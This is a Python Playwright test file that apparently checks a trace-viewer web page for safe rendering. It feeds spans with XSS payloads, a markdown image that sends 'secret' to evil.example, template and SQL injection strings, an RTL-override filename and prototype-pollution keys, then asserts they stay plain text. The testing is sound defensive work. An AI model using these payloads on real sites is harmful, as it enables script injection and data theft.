"""Hostile content on the trace page: it stays text. Any dialog, foreign request or CSP report fails these tests."""

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from aiops.core.models import Project
from tests.e2e.trace_pages import URL, ready, row, store, title
from tests.traces import stories
from traces.types import Event, Link, Resource

pytestmark = pytest.mark.e2e
CARRIERS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{7*7}} ${7*7} %(x)s",
    "![x](http://evil.example/?q=secret) [a](javascript:alert(1)) http://evil.example/",
    "\u202egnp.exe \x1b[31mred\x1b[0m",
]
ALL = " ".join(CARRIERS)
KEYS = {
    "__proto__": "polluted",
    "constructor.prototype.polluted": "yes",
    "__class__.__init__": "x",
    "a.b": "1",
    "a": "2",
    "$where": "1",
    "'; DROP TABLE span": "1",
}


def hostile() -> list[Any]:
    """The refund story with every text replaced by the carriers."""
    spans = stories.refund()
    for number, each in enumerate(spans):
        carrier = CARRIERS[number % len(CARRIERS)]
        each.name = carrier
        each.model = each.provider = each.user = each.session = each.release = each.workflow = ALL
        each.error_type = each.status_message = each.finish_reason = carrier
        each.status = "error"
        each.resource = Resource({"service.name": ALL, ALL: ALL})
        each.attributes = (
            stories.chat(("user", ALL), (ALL, ALL), ("assistant", ALL)) | dict.fromkeys(CARRIERS, ALL) | KEYS
        )
        each.attributes |= {"retrieval.documents.0.document.content": ALL, "retrieval.documents.0.document.id": carrier}
        each.events = [Event(ALL, each.start_ns, {"exception.type": ALL, "exception.message": ALL, ALL: ALL})]
        each.links = [Link(each.trace_id, each.span_id, {ALL: ALL})]
    return spans


@pytest.mark.parametrize("view", ["", "flame", "conversation"])
def test_carriers_stay_text_in_every_view(project: Project, signed_in_page: Page, view: str) -> None:
    store(project, hostile())
    page = ready(signed_in_page, f"{URL}?view={view}&q=alert")
    if view == "conversation":
        expect(page.locator("#conversation .chat")).to_contain_text("alert(1)")
    for _ in range(len(CARRIERS)):
        page.keyboard.press("j")
        page.wait_for_timeout(150)
    expect(title(page)).not_to_be_empty()
    assert page.locator("#trace :is(script:not(#columns), img, iframe, object, [onerror], [onload])").count() == 0
    assert page.locator("#trace a[href^='javascript'], #trace a[href^='http'], #trace a[href^='data']").count() == 0


def test_carriers_stay_text_in_the_panel(project: Project, signed_in_page: Page) -> None:
    store(project, hostile())
    page = ready(signed_in_page, f"{URL}?span=0000000000000014")
    page.locator("#panel .tabs").get_by_role("link", name="Raw").click()
    expect(page.locator("#p-raw pre")).to_contain_text("alert(1)")
    for part in ("#p-msg", "#p-att", "#p-ev", "#p-res", "#p-links"):
        expect(page.locator(part)).to_contain_text("<img src=x onerror=alert(1)>")
    expect(page.locator("#p-error")).to_contain_text("gnp.exe")


def test_keys_of_prototypes_are_plain_strings(project: Project, signed_in_page: Page) -> None:
    spans = stories.refund()
    for each in spans:
        each.attributes = dict(KEYS)
        each.name = "__proto__"
    store(project, spans)
    page = ready(signed_in_page, f"{URL}?q=__proto__")
    expect(page.locator("#search output")).to_have_text("22 found")
    page.get_by_label("Search attributes").fill("__proto__")
    assert page.locator("#p-att tbody tr:visible").inner_text().split() == ["__proto__", "polluted"]
    row(page, "__proto__").click()
    assert page.evaluate("({}).polluted === undefined && Object.prototype.hasOwnProperty('polluted') === false")


@pytest.mark.parametrize(
    "query", ["span=__proto__", "view=constructor", "zoom=Infinity-NaN", "zoom=9e99-1", "q=%00%ff"]
)
def test_nonsense_in_the_url_shows_the_whole_trace(project: Project, signed_in_page: Page, query: str) -> None:
    store(project, stories.refund())
    page = ready(signed_in_page, f"{URL}?{query}")
    expect(page.get_by_role("treegrid")).to_have_attribute("aria-rowcount", "23")
